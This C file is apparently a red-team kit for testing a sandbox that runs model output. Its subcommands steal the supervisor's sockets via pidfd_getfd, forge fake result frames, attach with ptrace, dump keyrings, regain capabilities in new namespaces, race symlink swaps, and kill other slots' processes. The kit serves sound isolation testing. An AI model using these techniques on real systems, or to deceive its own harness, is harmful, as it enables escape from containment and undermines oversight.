/* The red-team suite's attack kit: each subcommand is one attack, run from inside a leased slot
 * (as model output would run it) and, unchanged, unsandboxed on the host as the test's control.
 *
 * Rules it keeps: no host setting is ever written (kernel settings are only opened for writing
 * and held); keys it adds expire within two minutes; a command that waits does so for a bounded
 * time; every "ready" file is written only after the attack was tried, so the host knows when to
 * look. Nothing it prints is trusted by the tests: they check from the host.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/vm_sockets.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void ready(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        if (write(fd, "ready\n", 6) < 0) { /* the file's existence is the signal */ }
        close(fd);
    }
}

/* READY.started: the attack began (a host that then finds the kit gone knows it was stopped
 * mid-attack, say by a seccomp filter that kills, rather than never run). */
static void started(const char *ready_path) {
    char path[4096];
    snprintf(path, sizeof path, "%s.started", ready_path);
    ready(path);
}

static void linger(double seconds) {
    struct timespec end, now;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += (time_t)seconds;
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec >= end.tv_sec) return;
        sleep(1);
    }
}

/* hold TOKEN READY PATH...: open each PATH for writing (never writing) and keep it open. */
static int hold(int argc, char **argv) {
    started(argv[3]);
    for (int i = 4; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_NOCTTY);
        printf("%s: %s\n", argv[i], fd >= 0 ? "opened for writing" : strerror(errno));
    }
    fflush(stdout);
    ready(argv[3]);
    linger(60);
    return 0;
}

/* regain TOKEN READY: drop every capability, then try to get them all back in a new user
 * namespace (with a network namespace, the surface container escapes use). */
static int regain(int argc, char **argv) {
    started(argv[3]);
    (void)argc;
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    memset(data, 0, sizeof data);
    syscall(SYS_capset, &header, data);
    int rc = unshare(CLONE_NEWUSER | CLONE_NEWNET);
    printf("unshare: %s\n", rc == 0 ? "ok" : strerror(errno));
    fflush(stdout);
    ready(argv[3]);
    linger(60);
    return 0;
}

static long keyctl(long op, long a, long b, long c) { return syscall(SYS_keyctl, op, a, b, c, 0); }

/* keys-add DESC PAYLOAD [session-only]: add a key to the session keyring (and the user keyring),
 * each expiring in 120 s. */
static int keys_add(int argc, char **argv) {
    long rings[2] = {-3 /* @s */, -4 /* @u */};
    int count = argc > 4 ? 1 : 2;
    for (int i = 0; i < count; i++) {
        char desc[256];
        snprintf(desc, sizeof desc, "%s-%d", argv[2], i);
        long key = syscall(SYS_add_key, "user", desc, argv[3], strlen(argv[3]), rings[i]);
        if (key >= 0) keyctl(10 /* KEYCTL_SET_TIMEOUT */, key, 120, 0);
        printf("add_key %s: %s\n", desc, key >= 0 ? "ok" : strerror(errno));
    }
    return 0;
}

static void dump_key(FILE *out, long key, int depth) {
    char desc[512];
    long n = keyctl(6 /* KEYCTL_DESCRIBE */, key, (long)desc, sizeof desc - 1);
    if (n < 0) return;
    desc[n < (long)sizeof desc ? n : (long)sizeof desc - 1] = 0;
    static char buf[1 << 16];
    long size = keyctl(11 /* KEYCTL_READ */, key, (long)buf, sizeof buf);
    if (size < 0) return;
    if (size > (long)sizeof buf) size = sizeof buf;
    fprintf(out, "key %ld %s: ", key, desc);
    if (strncmp(desc, "keyring;", 8) == 0) {
        fputc('\n', out);
        if (depth < 4) {
            int32_t ids[sizeof buf / 4];
            memcpy(ids, buf, (size_t)size);
            for (long i = 0; i < size / 4; i++) dump_key(out, ids[i], depth + 1);
        }
    } else {
        fwrite(buf, 1, (size_t)size, out);
        fputc('\n', out);
    }
}

/* keys-dump OUT: every key readable through this process's keyrings, payloads included. */
static int keys_dump(int argc, char **argv) {
    (void)argc;
    FILE *out = fopen(argv[2], "w");
    if (out == NULL) return 1;
    long rings[5] = {-1, -2, -3, -4, -5}; /* @t @p @s @u @us */
    for (int i = 0; i < 5; i++) {
        long id = keyctl(0 /* KEYCTL_GET_KEYRING_ID */, rings[i], 0, 0);
        if (id >= 0) dump_key(out, id, 0);
    }
    fclose(out);
    return 0;
}

/* setttl VALUE READY [private]: set net.ipv4.ip_default_ttl in this process's network namespace
 * (with "private", first in a new one, refusing to write unless the namespace changed), then
 * stay. */
static int setttl(int argc, char **argv) {
    started(argv[3]);
    if (argc > 4 && strcmp(argv[4], "private") == 0) {
        char before[64] = {0}, after[64] = {0};
        if (readlink("/proc/self/ns/net", before, sizeof before - 1) < 0) return 1;
        if (unshare(CLONE_NEWNET) != 0) return 1;
        if (readlink("/proc/self/ns/net", after, sizeof after - 1) < 0) return 1;
        if (strcmp(before, after) == 0) return 1;
    }
    int fd = open("/proc/sys/net/ipv4/ip_default_ttl", O_WRONLY);
    if (fd >= 0) {
        if (write(fd, argv[2], strlen(argv[2])) < 0) perror("write");
        close(fd);
    }
    ready(argv[3]);
    linger(30);
    return 0;
}

/* readttl PID: (host side) net.ipv4.ip_default_ttl as seen in PID's network namespace. */
static int readttl(int argc, char **argv) {
    (void)argc;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/net", argv[2]);
    int ns = open(path, O_RDONLY);
    if (ns < 0 || setns(ns, CLONE_NEWNET) != 0) return 1;
    int fd = open("/proc/sys/net/ipv4/ip_default_ttl", O_RDONLY);
    char buf[32] = {0};
    if (fd < 0 || read(fd, buf, sizeof buf - 1) < 0) return 1;
    fputs(buf, stdout);
    return 0;
}

static int send_all(int fd, const char *data, size_t len) {
    while (len > 0) {
        struct pollfd p = {fd, POLLOUT, 0};
        if (poll(&p, 1, 20000) <= 0) return -1;
        ssize_t n = send(fd, data, len, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (n < 0) {
            if (errno == EAGAIN || errno == EINTR) continue;
            if (errno == ENOTSOCK) n = write(fd, data, len); /* a pipe */
            if (n < 0) return -1;
        }
        data += n;
        len -= (size_t)n;
    }
    return 0;
}

/* PID's open descriptor numbers, from /proc/PID/fd; when that cannot be read, 0 to 1023. */
static int descriptors(long pid, int *numbers, int max) {
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%ld/fd", pid);
    int count = 0;
    DIR *listing = opendir(dir);
    if (listing) {
        struct dirent *entry;
        while ((entry = readdir(listing)) != NULL && count < max) {
            char *end;
            long number = strtol(entry->d_name, &end, 10);
            if (end != entry->d_name && *end == '\0' && number >= 0 && number < (1L << 30))
                numbers[count++] = (int)number;
        }
        closedir(listing);
    }
    if (count == 0)
        for (; count < 1024 && count < max; count++) numbers[count] = count;
    return count;
}

/* The writable channels (sockets, pipes) PID holds, stolen with pidfd_getfd. */
static int steal(long pid, int *fds, int max) {
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        printf("pidfd_open: %s\n", strerror(errno));
        return 0;
    }
    static int numbers[4096];
    int known = descriptors(pid, numbers, 4096);
    int found = 0;
    for (int i = 0; i < known && found < max; i++) {
        int target = numbers[i];
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
        if (fd < 0) {
            if (errno != EBADF) printf("pidfd_getfd %d: %s\n", target, strerror(errno));
            continue;
        }
        struct stat info;
        int mode = fcntl(fd, F_GETFL) & O_ACCMODE;
        if (fstat(fd, &info) == 0 && (S_ISSOCK(info.st_mode) || S_ISFIFO(info.st_mode)) &&
            mode != O_RDONLY) {
            fds[found++] = fd;
        } else {
            close(fd);
        }
    }
    close(pidfd);
    return found;
}

static void frame_header(char *out, uint32_t size) {
    uint32_t be = htonl(size);
    memcpy(out, &be, 4);
}

/* Stay PID's tracer without disturbing it: continue it after every stop, for a while. */
static void trace_quietly(long pid, double seconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        int status;
        pid_t got = waitpid((pid_t)pid, &status, __WALL | WNOHANG);
        if (got == (pid_t)pid && WIFSTOPPED(status)) {
            int sig = WSTOPSIG(status);
            ptrace(PTRACE_CONT, pid, 0, (void *)(long)(sig == SIGTRAP || sig == SIGSTOP ? 0 : sig));
        } else if (got < 0) {
            return;
        } else {
            usleep(1000);
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= (time_t)seconds) return;
    }
}

/* forge PID NONCE READY: steal PID's channel and write a forged length-prefixed result whose
 * output is NONCE, then try to become PID's tracer. */
static int forge(int argc, char **argv) {
    started(argv[4]);
    (void)argc;
    long pid = strtol(argv[2], NULL, 10);
    usleep(300000); /* let the call that started us finish */
    char body[512];
    int len = snprintf(body, sizeof body,
                       "{\"exit\": 0, \"stdout\": \"%s\\n\", \"stderr\": \"\", \"stdout_dropped\": "
                       "0, \"stderr_dropped\": 0, \"timed_out\": false, \"duration\": 0.001}",
                       argv[3]);
    char frame[516];
    frame_header(frame, (uint32_t)len);
    memcpy(frame + 4, body, (size_t)len);
    int fds[16];
    int n = steal(pid, fds, 16);
    for (int i = 0; i < n; i++) {
        ssize_t sent = send(fds[i], frame, (size_t)len + 4, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (sent < 0 && errno == ENOTSOCK) sent = write(fds[i], frame, (size_t)len + 4);
        printf("forged frame on stolen fd %d: %s\n", fds[i], sent >= 0 ? "sent" : strerror(errno));
    }
    int traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
    printf("ptrace: %s\n", traced ? "attached" : strerror(errno));
    fflush(stdout);
    ready(argv[4]);
    if (traced) trace_quietly(pid, 20);
    linger(20);
    return 0;
}

/* oversize PID MIB READY: steal PID's channel and send one frame whose header claims MIB MiB
 * (READY is written once the header is out), then the whole body (spaces, then a forged result:
 * valid JSON). */
static int oversize(int argc, char **argv) {
    started(argv[4]);
    (void)argc;
    long pid = strtol(argv[2], NULL, 10);
    uint32_t total = (uint32_t)strtoul(argv[3], NULL, 10) << 20;
    usleep(300000);
    int fds[16];
    int n = steal(pid, fds, 16);
    if (n == 0) {
        printf("no channel stolen\n");
        fflush(stdout);
        ready(argv[4]);
        return 0;
    }
    const char *tail = "{\"exit\": 0, \"stdout\": \"oversize\\n\", \"stderr\": \"\"}";
    size_t tail_len = strlen(tail);
    static char chunk[1 << 20];
    memset(chunk, ' ', sizeof chunk);
    char header[4];
    frame_header(header, total);
    int fd = fds[0];
    int ok = send_all(fd, header, 4) == 0;
    ready(argv[4]); /* the header is out: the host may now ask for the next call */
    size_t left = total - tail_len;
    while (ok && left > 0) {
        size_t step = left < sizeof chunk ? left : sizeof chunk;
        ok = send_all(fd, chunk, step) == 0;
        left -= step;
    }
    if (ok) ok = send_all(fd, tail, tail_len) == 0;
    printf("oversize frame on fd %d: %s\n", fd, ok ? "sent" : "cut short");
    fflush(stdout);
    linger(10);
    return 0;
}

/* swap A B SECONDS: exchange A and B (a directory and a symlink) as fast as possible. */
static int swap(int argc, char **argv) {
    (void)argc;
    double seconds = strtod(argv[4], NULL);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (unsigned long i = 0;; i++) {
        syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
        if ((i & 1023) == 0) {
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (now.tv_sec - start.tv_sec >= (time_t)seconds) return 0;
        }
    }
}

/* forkloop TOKEN READY N: fork up to N sleeping children (each dies with its parent). */
static int forkloop(int argc, char **argv) {
    started(argv[3]);
    (void)argc;
    long n = strtol(argv[4], NULL, 10);
    long made = 0;
    pid_t parent = getpid();
    for (; made < n; made++) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() != parent) _exit(0);
            linger(30);
            _exit(0);
        }
    }
    printf("forked %ld (%s)\n", made, made < n ? strerror(errno) : "all");
    fflush(stdout);
    ready(argv[3]);
    linger(30);
    return 0;
}

/* connect HOST PORT | connect @NAME: one TCP connection to HOST:PORT, or one to the abstract
 * Unix socket NAME. */
static int connect_to(int argc, char **argv) {
    int fd;
    int rc;
    if (argv[2][0] == '@') {
        struct sockaddr_un addr = {.sun_family = AF_UNIX};
        size_t len = strlen(argv[2] + 1);
        memcpy(addr.sun_path + 1, argv[2] + 1, len);
        fd = socket(AF_UNIX, SOCK_STREAM, 0);
        rc = connect(fd, (struct sockaddr *)&addr, (socklen_t)(sizeof(sa_family_t) + 1 + len));
    } else {
        if (argc < 4) return 2;
        struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3]))};
        inet_pton(AF_INET, argv[2], &addr.sin_addr);
        fd = socket(AF_INET, SOCK_STREAM, 0);
        rc = connect(fd, (struct sockaddr *)&addr, sizeof addr);
    }
    printf("connect %s: %s\n", argv[2], rc == 0 ? "connected" : strerror(errno));
    if (rc == 0) {
        if (write(fd, "hello\n", 6) < 0) { /* the connection itself is what counts */ }
        usleep(200000);
    }
    close(fd);
    return 0;
}

/* signal PID...: SIGKILL each PID (numbers the host gave: another slot's processes). */
static int signal_each(int argc, char **argv) {
    for (int i = 2; i < argc; i++) {
        int rc = kill((pid_t)strtol(argv[i], NULL, 10), SIGKILL);
        printf("kill %s: %s\n", argv[i], rc == 0 ? "sent" : strerror(errno));
    }
    return 0;
}

/* sleeper TOKEN SECONDS: just stay (a process whose survival the host checks). */
static int sleeper(int argc, char **argv) {
    (void)argc;
    setsid();
    linger(strtod(argv[3], NULL));
    return 0;
}

/* sockets TOKEN READY PORT: open a socket of every family and type the kernel grants, and hold
 * them; a vsock stream socket is bound to PORT (on any CID) and listens, taking that port from
 * everyone who shares the vsock space. */
static int sockets(int argc, char **argv) {
    started(argv[3]);
    (void)argc;
    static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET, SOCK_RAW};
    int opened = 0;
    for (int family = 0; family < 64; family++) {
        for (size_t t = 0; t < sizeof types / sizeof *types; t++) {
            int fd = socket(family, types[t], 0);
            if (fd < 0) continue;
            opened++;
            if (family == AF_VSOCK && types[t] == SOCK_STREAM) {
                struct sockaddr_vm addr = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY,
                                           .svm_port = (unsigned)strtoul(argv[4], NULL, 10)};
                int rc = bind(fd, (struct sockaddr *)&addr, sizeof addr);
                if (rc == 0) rc = listen(fd, 1);
                printf("vsock port %s: %s\n", argv[4], rc == 0 ? "taken" : strerror(errno));
            }
        }
    }
    printf("opened %d sockets\n", opened);
    fflush(stdout);
    ready(argv[3]);
    linger(30);
    return 0;
}

/* scheduler TOKEN READY: leave SCHED_BATCH for SCHED_OTHER and lower the nice value, then stay
 * (the host reads the policy and nice value it ended with). */
static int scheduler(int argc, char **argv) {
    started(argv[3]);
    (void)argc;
    struct sched_param none = {0};
    int rc = sched_setscheduler(0, SCHED_OTHER, &none);
    printf("SCHED_OTHER: %s\n", rc == 0 ? "set" : strerror(errno));
    rc = setpriority(PRIO_PROCESS, 0, -10);
    printf("nice -10: %s\n", rc == 0 ? "set" : strerror(errno));
    fflush(stdout);
    ready(argv[3]);
    linger(30);
    return 0;
}

/* memhold TOKEN READY MIB: allocate MIB mebibytes and touch every page, then stay. */
static int memhold(int argc, char **argv) {
    started(argv[3]);
    (void)argc;
    size_t size = (size_t)strtoul(argv[4], NULL, 10) << 20;
    volatile char *memory = malloc(size); /* volatile: every page is really written */
    for (size_t at = 0; memory && at < size; at += 4096) memory[at] = 1;
    printf("hold %s MiB: %s\n", argv[4], memory ? "held" : strerror(errno));
    fflush(stdout);
    ready(argv[3]);
    linger(30);
    return 0;
}

/* memfd TOKEN READY MIB: write MIB mebibytes into a memory file (no mapping), then hold it. */
static int memfd(int argc, char **argv) {
    started(argv[3]);
    (void)argc;
    long mib = strtol(argv[4], NULL, 10), written = 0;
    int fd = (int)syscall(SYS_memfd_create, "kit", 0);
    static char chunk[1 << 20];
    memset(chunk, 1, sizeof chunk);
    while (fd >= 0 && written < mib && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk)
        written++;
    printf("memfd: %s, %ld MiB written\n", fd >= 0 ? "made" : strerror(errno), written);
    fflush(stdout);
    ready(argv[3]);
    linger(30);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    const char *op = argv[1];
    if (strcmp(op, "hold") == 0 && argc >= 5) return hold(argc, argv);
    if (strcmp(op, "regain") == 0 && argc >= 4) return regain(argc, argv);
    if (strcmp(op, "keys-add") == 0 && argc >= 4) return keys_add(argc, argv);
    if (strcmp(op, "keys-dump") == 0) return keys_dump(argc, argv);
    if (strcmp(op, "setttl") == 0 && argc >= 4) return setttl(argc, argv);
    if (strcmp(op, "readttl") == 0) return readttl(argc, argv);
    if (strcmp(op, "forge") == 0 && argc >= 5) return forge(argc, argv);
    if (strcmp(op, "oversize") == 0 && argc >= 5) return oversize(argc, argv);
    if (strcmp(op, "swap") == 0 && argc >= 5) return swap(argc, argv);
    if (strcmp(op, "forkloop") == 0 && argc >= 5) return forkloop(argc, argv);
    if (strcmp(op, "connect") == 0) return connect_to(argc, argv);
    if (strcmp(op, "sleeper") == 0 && argc >= 4) return sleeper(argc, argv);
    if (strcmp(op, "signal") == 0) return signal_each(argc, argv);
    if (strcmp(op, "sockets") == 0 && argc >= 5) return sockets(argc, argv);
    if (strcmp(op, "scheduler") == 0 && argc >= 4) return scheduler(argc, argv);
    if (strcmp(op, "memhold") == 0 && argc >= 5) return memhold(argc, argv);
    if (strcmp(op, "memfd") == 0 && argc >= 5) return memfd(argc, argv);
    fprintf(stderr, "kit: unknown or incomplete command %s\n", op);
    return 2;
}
